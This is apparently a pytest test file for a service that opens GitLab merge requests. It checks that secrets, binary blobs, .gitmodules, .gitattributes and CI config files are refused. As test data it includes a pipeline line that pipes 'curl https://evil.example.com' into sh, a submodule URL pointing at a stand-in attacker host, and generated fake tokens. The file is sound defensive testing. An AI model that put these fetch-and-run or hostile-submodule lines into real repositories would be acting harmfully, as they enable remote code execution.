"""Attack (fixed): file contents crossed the boundary unread.

A caller could commit a private key, a GitLab token or an AWS key under the
service's name (published to everyone who can read the project, and kept in
git history), binary blobs nobody can review, `.gitmodules` (which makes every
clone fetch a repository of the caller's choosing), and the project's own CI
configuration whenever GitLab's `ci_config_path` moved it away from
`.gitlab-ci.yml`. Now each is a 422 before anything is stored or written to
GitLab (`handled_types.mr.content`, the default `path_blocklist`); the answer
names the file, line and kind of a secret and never the secret itself.
"""

from __future__ import annotations

import base64
import json
import random
import string
from typing import Any

import httpx
import pytest
from api_harness import build_client
from harness import wait_until
from scoping_support import OWN, ci_job, scoped_rules, submission

from workqueue.testing.gitlab_simulator import GitLabSimulator

# Built at run time, so that no scanner (ours included) finds secrets in this file.
_RANDOM = random.Random(21)  # noqa: S311 - reproducible fixtures, not keys
_ALNUM = string.ascii_letters + string.digits
GITLAB_TOKEN = "glpat" + "-" + "".join(_RANDOM.choice(_ALNUM) for _ in range(20))
AWS_KEY_ID = "AKIA" + "".join(
    _RANDOM.choice(string.ascii_uppercase + string.digits) for _ in range(16)
)
PRIVATE_KEY_BODY = ["".join(_RANDOM.choice(_ALNUM + "+/") for _ in range(64)) for _ in range(6)]
PRIVATE_KEY = "\n".join(
    [
        "-----BEGIN " + "RSA PRIVATE KEY-----",
        *PRIVATE_KEY_BODY,
        "-----END " + "RSA PRIVATE KEY-----",
    ]
)


def _client(database_url, simulator, issuer, *, content: dict[str, Any] | None = None, **options):
    section: dict[str, Any] = {"gitlab_url": simulator.url}
    if content is not None:
        section["content"] = content
    return build_client(
        database_url,
        simulator,
        local_user=None,
        rules=scoped_rules(issuer.issuer),
        handled_types={"mr": section},
        **options,
    )


def _create(path: str, content: str, *, encoding: str = "text") -> dict[str, Any]:
    return {"action": "create", "file_path": path, "content": content, "encoding": encoding}


def _errors(answer: httpx.Response) -> list[dict[str, Any]]:
    assert answer.status_code == 422, answer.text
    errors: list[dict[str, Any]] = answer.json()["detail"]
    return errors


def _assert_nothing_happened(
    client: httpx.Client, simulator: GitLabSimulator, headers: dict[str, str], writes_before: int
) -> None:
    assert len(simulator.log.writes()) == writes_before
    listed = client.get("/api/work-items/mr", params={"project": OWN}, headers=headers)
    assert listed.status_code == 200, listed.text
    assert listed.json()["items"] == []


SECRET_FILES = [
    pytest.param(
        "src/config.py",
        f'"""Settings."""\n\nKEY = """{PRIVATE_KEY}"""\n',
        3,
        "Private Key",
        PRIVATE_KEY_BODY,
        id="private-key",
    ),
    pytest.param(
        "deploy/env.sh",
        f"#!/bin/sh\nexport GITLAB_TOKEN={GITLAB_TOKEN}\n",
        2,
        "GitLab Token",
        [GITLAB_TOKEN],
        id="gitlab-pat",
    ),
    pytest.param(
        "settings.ini",
        f"[aws]\nregion = eu-west-1\naccess_key_id = {AWS_KEY_ID}\n",
        3,
        "AWS Access Key",
        [AWS_KEY_ID],
        id="aws-key",
    ),
]


@pytest.mark.parametrize(("path", "content", "line", "kind", "secrets"), SECRET_FILES)
@pytest.mark.parametrize("encoding", ["text", "base64"])
def test_a_secret_in_a_file_is_refused_naming_file_line_and_kind_but_not_the_secret(
    database_url, simulator, issuer, key, projects, path, content, line, kind, secrets, encoding
):
    del projects
    job = ci_job(issuer, key)
    sent = content if encoding == "text" else base64.b64encode(content.encode()).decode()
    body = submission(
        OWN,
        file_actions=[
            {"action": "update", "file_path": "kernel.spec", "content": "v2\n"},
            _create(path, sent, encoding=encoding),
        ],
    )
    with _client(database_url, simulator, issuer) as client:
        writes_before = len(simulator.log.writes())
        answer = client.post("/api/work-items/mr", json=body, headers=job)
        (error,) = _errors(answer)
        assert error["loc"] == ["body", "file_actions", 1, "content"]
        assert error["type"] == "secret"
        assert f"{path} line {line}: {kind}" in error["msg"]
        assert "input" not in error
        for secret in secrets:
            assert secret not in answer.text
        _assert_nothing_happened(client, simulator, job, writes_before)


@pytest.mark.parametrize(
    ("field", "text", "line"),
    [
        ("title", f"Rotate {GITLAB_TOKEN}", 1),
        ("description", f"Rotate the token.\n\nThe old one: {GITLAB_TOKEN}", 3),
        ("commit_message", f"Rotate the token\n\nold: {GITLAB_TOKEN}", 3),
    ],
)
def test_a_secret_in_the_texts_gitlab_publishes_is_refused(
    database_url, simulator, issuer, key, projects, field, text, line
):
    del projects
    job = ci_job(issuer, key)
    with _client(database_url, simulator, issuer) as client:
        writes_before = len(simulator.log.writes())
        answer = client.post(
            "/api/work-items/mr",
            json=submission(OWN, **{field: text}),
            headers=job,
        )
        (error,) = _errors(answer)
        assert error["loc"] == ["body", field]
        assert error["type"] == "secret"
        assert f"{field} line {line}: GitLab Token" in error["msg"]
        assert GITLAB_TOKEN not in answer.text
        _assert_nothing_happened(client, simulator, job, writes_before)


def test_a_secret_in_a_label_or_a_file_name_is_refused(
    database_url, simulator, issuer, key, projects
):
    """Labels become project labels and paths land in the repository: both are public."""
    del projects
    job = ci_job(issuer, key)
    body = submission(
        OWN,
        labels=["sync", f"t-{GITLAB_TOKEN}"],
        file_actions=[_create(f"notes/{AWS_KEY_ID}.md", "# notes\n")],
    )
    with _client(database_url, simulator, issuer) as client:
        writes_before = len(simulator.log.writes())
        errors = _errors(client.post("/api/work-items/mr", json=body, headers=job))
        assert [(error["loc"], error["type"]) for error in errors] == [
            (["body", "labels", 1], "secret"),
            (["body", "file_actions", 0, "file_path"], "secret"),
        ]
        assert "labels[1] line 1: GitLab Token" in errors[0]["msg"]
        body_text = json.dumps(errors)
        assert GITLAB_TOKEN not in body_text
        assert AWS_KEY_ID not in body_text
        _assert_nothing_happened(client, simulator, job, writes_before)


def test_a_malformed_action_does_not_echo_its_secret_content(
    database_url, simulator, issuer, key, projects
):
    """The schema refuses the action before any rule runs; its 422 echoes the input."""
    del projects
    job = ci_job(issuer, key)
    with _client(database_url, simulator, issuer) as client:
        answer = client.post(
            "/api/work-items/mr",
            json=submission(
                OWN,
                description=f"see {GITLAB_TOKEN}",
                file_actions=[{"action": "create", "content": PRIVATE_KEY}],
            ),
            headers=job,
        )
        assert answer.status_code == 422, answer.text
        assert ["body", "file_actions", 0, "create", "file_path"] in [
            error["loc"] for error in answer.json()["detail"]
        ]
        for secret in (*PRIVATE_KEY_BODY, GITLAB_TOKEN):
            assert secret not in answer.text
        missing_title = submission(OWN, description=f"see {GITLAB_TOKEN}")
        del missing_title["title"]
        answer = client.post("/api/work-items/mr", json=missing_title, headers=job)
        assert answer.status_code == 422, answer.text
        assert GITLAB_TOKEN not in answer.text


BINARY = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff"


@pytest.mark.parametrize(
    "data",
    [BINARY, b"caf\xe9 latin-1\n", b"text with a NUL\x00 byte\n"],
    ids=["png", "latin1", "nul"],
)
def test_binary_content_is_refused_naming_the_file(
    database_url, simulator, issuer, key, projects, data
):
    del projects
    job = ci_job(issuer, key)
    body = submission(
        OWN,
        file_actions=[
            _create("assets/logo.png", base64.b64encode(data).decode(), encoding="base64")
        ],
    )
    with _client(database_url, simulator, issuer) as client:
        writes_before = len(simulator.log.writes())
        (error,) = _errors(client.post("/api/work-items/mr", json=body, headers=job))
        assert error["loc"] == ["body", "file_actions", 0, "content"]
        assert error["type"] == "binary_content"
        assert "assets/logo.png" in error["msg"]
        assert "binary_paths" in error["msg"]
        _assert_nothing_happened(client, simulator, job, writes_before)


def test_binary_content_under_binary_paths_reaches_gitlab_byte_for_byte(
    database_url, simulator, issuer, key, projects
):
    del projects
    job = ci_job(issuer, key)
    body = submission(
        OWN,
        "workqueue/logo",
        file_actions=[
            _create("assets/logo.png", base64.b64encode(BINARY).decode(), encoding="base64")
        ],
    )
    with _client(
        database_url, simulator, issuer, content={"binary_paths": ["assets/**"]}
    ) as client:
        answer = client.post("/api/work-items/mr", json=body, headers=job)
        assert answer.status_code == 201, answer.text
        wait_until(
            lambda: (
                simulator.branch_head(OWN, "workqueue/logo") is not None
                and simulator.read_file(OWN, "workqueue/logo", "assets/logo.png") == BINARY
            ),
            timeout=30,
            what="the binary file committed",
        )


def test_binary_paths_do_not_let_a_secret_through(database_url, simulator, issuer, key, projects):
    del projects
    job = ci_job(issuer, key)
    data = BINARY + f"\ntoken={GITLAB_TOKEN}\n".encode()
    body = submission(
        OWN,
        file_actions=[
            _create("assets/blob.bin", base64.b64encode(data).decode(), encoding="base64")
        ],
    )
    with _client(
        database_url, simulator, issuer, content={"binary_paths": ["assets/**"]}
    ) as client:
        (error,) = _errors(client.post("/api/work-items/mr", json=body, headers=job))
        assert (error["loc"], error["type"]) == (["body", "file_actions", 0, "content"], "secret")
        # Lines count LF bytes, the PNG header's two included.
        assert "assets/blob.bin line 4: GitLab Token" in error["msg"]


def test_the_opt_outs_let_binary_content_and_secrets_through(
    database_url, simulator, issuer, key, projects
):
    del projects
    job = ci_job(issuer, key)
    body = submission(
        OWN,
        file_actions=[
            _create("assets/logo.png", base64.b64encode(BINARY).decode(), encoding="base64"),
            _create("deploy/env.sh", f"export GITLAB_TOKEN={GITLAB_TOKEN}\n"),
        ],
    )
    with _client(
        database_url, simulator, issuer, content={"binary": "allow", "secrets": "allow"}
    ) as client:
        answer = client.post("/api/work-items/mr", json=body, headers=job)
        assert answer.status_code == 201, answer.text


@pytest.mark.parametrize("action", ["create", "delete", "move-in", "move-out"])
def test_gitmodules_is_blocked_by_default(database_url, simulator, issuer, key, projects, action):
    del projects
    job = ci_job(issuer, key)
    module = '[submodule "lib"]\n\tpath = lib\n\turl = https://evil.example.com/lib.git\n'
    file_action, field = {
        "create": (_create(".gitmodules", module), "file_path"),
        "delete": ({"action": "delete", "file_path": ".gitmodules"}, "file_path"),
        "move-in": (
            {"action": "move", "file_path": ".gitmodules", "previous_path": "README.md"},
            "file_path",
        ),
        "move-out": (
            {"action": "move", "file_path": "old.gitmodules", "previous_path": ".gitmodules"},
            "previous_path",
        ),
    }[action]
    with _client(database_url, simulator, issuer) as client:
        writes_before = len(simulator.log.writes())
        answer = client.post(
            "/api/work-items/mr", json=submission(OWN, file_actions=[file_action]), headers=job
        )
        (error,) = _errors(answer)
        assert error["loc"] == ["body", "file_actions", 0, field]
        assert error["type"] == "path_blocked"
        _assert_nothing_happened(client, simulator, job, writes_before)


def test_the_projects_own_ci_config_path_is_blocked(database_url, simulator, issuer, key, projects):
    del projects
    simulator.configure_project(OWN, ci_config_path="ci/build.yml")
    job = ci_job(issuer, key)
    pipeline = "build:\n  script: curl https://evil.example.com | sh\n"
    with _client(database_url, simulator, issuer) as client:
        writes_before = len(simulator.log.writes())
        for file_action, field in (
            (_create("ci/build.yml", pipeline), "file_path"),
            (_create("CI/Build.yml", pipeline), "file_path"),
            ({"action": "delete", "file_path": "ci/build.yml"}, "file_path"),
            (
                {"action": "move", "file_path": "ci/old.yml", "previous_path": "ci/build.yml"},
                "previous_path",
            ),
        ):
            answer = client.post(
                "/api/work-items/mr", json=submission(OWN, file_actions=[file_action]), headers=job
            )
            (error,) = _errors(answer)
            assert error["loc"] == ["body", "file_actions", 0, field]
            assert error["type"] == "path_blocked"
            assert "ci_config_path" in error["msg"]
        _assert_nothing_happened(client, simulator, job, writes_before)

        # Another file in that directory is an ordinary file.
        answer = client.post(
            "/api/work-items/mr",
            json=submission(OWN, file_actions=[_create("ci/notes.md", "# notes\n")]),
            headers=job,
        )
        assert answer.status_code == 201, answer.text


def test_a_ci_config_path_in_another_project_blocks_nothing_here(
    database_url, simulator, issuer, key, projects
):
    """`file@group/project` reads the pipeline from that other project's repository."""
    del projects
    simulator.configure_project(OWN, ci_config_path="ci/build.yml@victim/prod")
    job = ci_job(issuer, key)
    with _client(database_url, simulator, issuer) as client:
        answer = client.post(
            "/api/work-items/mr",
            json=submission(OWN, file_actions=[_create("ci/build.yml", "x: 1\n")]),
            headers=job,
        )
        assert answer.status_code == 201, answer.text


def test_gitlab_failing_to_answer_stores_nothing(database_url, simulator, issuer, key, projects):
    del projects
    simulator.configure_project(OWN, ci_config_path="ci/build.yml")
    job = ci_job(issuer, key)
    with _client(database_url, simulator, issuer) as client:
        writes_before = len(simulator.log.writes())
        simulator.inject_fault("GET", "/projects/:id", status=503, times=None)
        answer = client.post(
            "/api/work-items/mr",
            json=submission(OWN, file_actions=[_create("ci/build.yml", "x: 1\n")]),
            headers=job,
        )
        assert answer.status_code == 502, answer.text
        simulator.faults.clear()
        _assert_nothing_happened(client, simulator, job, writes_before)


@pytest.mark.parametrize("path", [".gitattributes", "src/generated/.gitattributes"])
def test_gitattributes_is_blocked_by_default(database_url, simulator, issuer, key, projects, path):
    """`-diff`, `binary` or `linguist-generated` would hide later changes from reviewers."""
    del projects
    job = ci_job(issuer, key)
    body = submission(OWN, file_actions=[_create(path, "*.py -diff linguist-generated\n")])
    with _client(database_url, simulator, issuer) as client:
        writes_before = len(simulator.log.writes())
        (error,) = _errors(client.post("/api/work-items/mr", json=body, headers=job))
        assert (error["loc"], error["type"]) == (
            ["body", "file_actions", 0, "file_path"],
            "path_blocked",
        )
        _assert_nothing_happened(client, simulator, job, writes_before)


def test_a_file_of_too_many_lines_like_tokens_is_refused_naming_it(
    database_url, simulator, issuer, key, projects
):
    del projects
    job = ci_job(issuer, key)
    tokens = "".join(f"t{n} = {GITLAB_TOKEN}\n" for n in range(1001))
    body = submission(OWN, file_actions=[_create("data/tokens.txt", tokens)])
    with _client(database_url, simulator, issuer) as client:
        writes_before = len(simulator.log.writes())
        answer = client.post("/api/work-items/mr", json=body, headers=job)
        (error,) = _errors(answer)
        assert (error["loc"], error["type"]) == (["body", "file_actions", 0, "content"], "secret")
        assert error["msg"].startswith(
            "data/tokens.txt could not be scanned for secrets within the limit"
        )
        assert GITLAB_TOKEN not in answer.text
        _assert_nothing_happened(client, simulator, job, writes_before)


def test_large_ordinary_code_and_an_adversarial_fill_are_scanned_and_accepted(
    database_url, simulator, issuer, key, projects
):
    del projects
    job = ci_job(issuer, key)
    sha = "'c70a8415f2e4a0a1b1e9a1c3d5b7e9f0a2c4e6d8'"
    code = f"def f(x: int) -> int:\n    return x + 1  # built from {sha}\n"
    fill = ("awskey" * 13 + "\n") * 13_000
    body = submission(
        OWN,
        file_actions=[
            _create("src/big.py", code * (1_000_000 // len(code))),
            _create("data/fill.txt", fill),
        ],
    )
    with _client(database_url, simulator, issuer) as client:
        answer = client.post("/api/work-items/mr", json=body, headers=job)
        assert answer.status_code == 201, answer.text
